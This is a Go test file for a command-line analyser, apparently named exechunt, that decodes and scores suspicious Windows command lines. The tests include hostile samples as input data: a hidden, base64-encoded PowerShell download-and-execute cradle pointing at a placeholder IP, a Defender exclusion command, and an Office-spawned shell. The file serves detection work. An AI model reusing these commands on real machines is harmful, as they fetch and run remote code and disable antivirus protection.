package main

import (
	"bytes"
	"encoding/json"
	"errors"
	"strings"
	"testing"

	"github.com/exechunt/exechunt/tables/analysis"
)

// runCLI runs the root command with args and stdin, returning stdout.
func runCLI(t *testing.T, stdin string, args ...string) (string, error) {
	t.Helper()
	root := newRootCmd()
	var out, errOut bytes.Buffer
	root.SetOut(&out)
	root.SetErr(&errOut)
	root.SetIn(strings.NewReader(stdin))
	root.SetArgs(args)
	err := root.Execute()
	return out.String(), err
}

// "IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.7/a.ps1')" as -EncodedCommand.
const encCradle = "SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkALgBEAG8AdwBuAGwAbwBhAGQAUwB0AHIAaQBuAGcAKAAnAGgAdAB0AHAAOgAvAC8AMgAwADMALgAwAC4AMQAxADMALgA3AC8AYQAuAHAAcwAxACcAKQA="

func TestAnalyzeJSON(t *testing.T) {
	out, err := runCLI(t, "", "analyze", "--format", "json", "powershell.exe -nop -w hidden -enc "+encCradle)
	if err != nil {
		t.Fatal(err)
	}
	var r analysis.Result
	if err := json.Unmarshal([]byte(out), &r); err != nil {
		t.Fatalf("output is not a Result: %v\n%s", err, out)
	}
	if r.Program != "powershell.exe" || r.Score < 50 || !strings.Contains(r.DecodedCommand, "DownloadString") {
		t.Errorf("result %+v", r)
	}
	if len(r.Layers) == 0 || r.Layers[0].Kind != "base64_utf16le" {
		t.Errorf("layers %+v", r.Layers)
	}
}

func TestAnalyzeTextFromStdin(t *testing.T) {
	script := "Add-MpPreference -ExclusionPath C:\\Users\\Public\n"
	out, err := runCLI(t, script, "analyze", "--kind", "script", "-")
	if err != nil {
		t.Fatal(err)
	}
	for _, want := range []string{"family:          powershell", "defender_tamper", "score:           50"} {
		if !strings.Contains(out, want) {
			t.Errorf("output lacks %q:\n%s", want, out)
		}
	}
}

func TestAnalyzeParentContext(t *testing.T) {
	out, err := runCLI(t, "", "analyze", "--parent", `C:\Program Files\Microsoft Office\root\Office16\WINWORD.EXE`, "cmd.exe /c whoami")
	if err != nil {
		t.Fatal(err)
	}
	if !strings.Contains(out, "office_child_shell") {
		t.Errorf("parent context ignored:\n%s", out)
	}
}

func TestAnalyzeUsageErrors(t *testing.T) {
	for _, args := range [][]string{
		{"analyze", "--format", "yaml", "x"},
		{"analyze", "--kind", "binary", "x"},
		{"analyze"},
	} {
		_, err := runCLI(t, "", args...)
		var ue usageError
		if err == nil || (!errors.As(err, &ue) && !strings.Contains(err.Error(), "arg")) {
			t.Errorf("%v: err = %v, want a usage error", args, err)
		}
	}
}
